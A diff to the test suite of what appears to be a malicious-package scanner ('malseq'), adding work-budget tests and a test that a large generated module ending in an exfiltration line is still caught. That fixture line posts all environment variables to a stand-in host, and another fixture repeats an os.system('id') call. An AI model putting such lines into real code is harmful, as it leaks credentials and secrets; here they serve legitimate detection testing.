@@ -5,7 +5,11 @@ from __future__ import annotations
 import base64
 import time
 
+import pytest
+
 from malseq._deadline import Deadline
+from malseq.errors import TimeBudgetExceeded
+from malseq.features.budget import CALL_UNITS, FILE_WORK_UNITS, WorkBudget, parse_window
 from malseq.features.python import analyse_python, analyse_python_text
 from malseq.features.types import MODULE_SCOPE, Binding, CallKind, FileAnalysis
 from malseq.intake.package import Language, PackageFile
@@ -267,11 +271,39 @@ def test_garbage_and_binary_input_never_raise() -> None:
 def test_big_generated_file_respects_budget() -> None:
     line = "a = b(c, 'd' + e[1:2], lambda f: f.g(h))\n"
     data = (line * (3_000_000 // len(line))).encode()
-    start = time.monotonic()
-    result = analyse_python(PackageFile("big.py", data, Language.PYTHON, False), Deadline(1.0))
-    elapsed = time.monotonic() - start
-    assert elapsed < 2.5
+    # Counted work, not time: the parse reads a bounded head and tail, the walk a bounded count.
+    assert parse_window(data) is not None
+    work = WorkBudget(FILE_WORK_UNITS)
+    result = analyse_python_text("big.py", data, work)
     assert result.budget_exhausted
+    assert work.used <= FILE_WORK_UNITS + CALL_UNITS
+    assert 0 < len(result.calls) <= FILE_WORK_UNITS // CALL_UNITS
+    again = analyse_python(PackageFile("big.py", data, Language.PYTHON, False), Deadline(600))
+    assert (again.events, again.calls, again.functions) == (result.events, result.calls, result.functions)
+
+
+def test_exfiltration_at_the_end_of_a_6mb_generated_module_is_seen() -> None:
+    body = "".join(f"a{i} = b(c, 'd' + e[1:2], lambda f: f.g(h))\n" for i in range(131_000))
+    tail = "import os\nimport requests\nrequests.post('https://collector.example/x', json=dict(os.environ))\n"
+    data = (body + tail).encode()
+    assert len(data) > 6_000_000
+    result = analyse_python(PackageFile("gen.py", data, Language.PYTHON, False), Deadline(600))
+    assert result.budget_exhausted  # the middle was skipped...
+    found = {(e.behaviour, e.line) for e in result.events}
+    last = data.count(b"\n")
+    # ... but the head's budget kept a share for the end of the file, read at its real lines.
+    assert ("read_env", last) in found
+    assert ("upload_data", last) in found
+    assert ("import_os_module", last - 2) in found
+    assert result.calls[0].line == 1
+
+
+def test_expired_deadline_raises_instead_of_returning_less() -> None:
+    deadline = Deadline(0.0)
+    time.sleep(0.01)
+    with pytest.raises(TimeBudgetExceeded):
+        analyse_python(PackageFile("x.py", b"import os\nos.system('id')\n" * 5000, Language.PYTHON, False),
+                       deadline)
 
 
 def test_minified_single_line_file_reports_once() -> None:
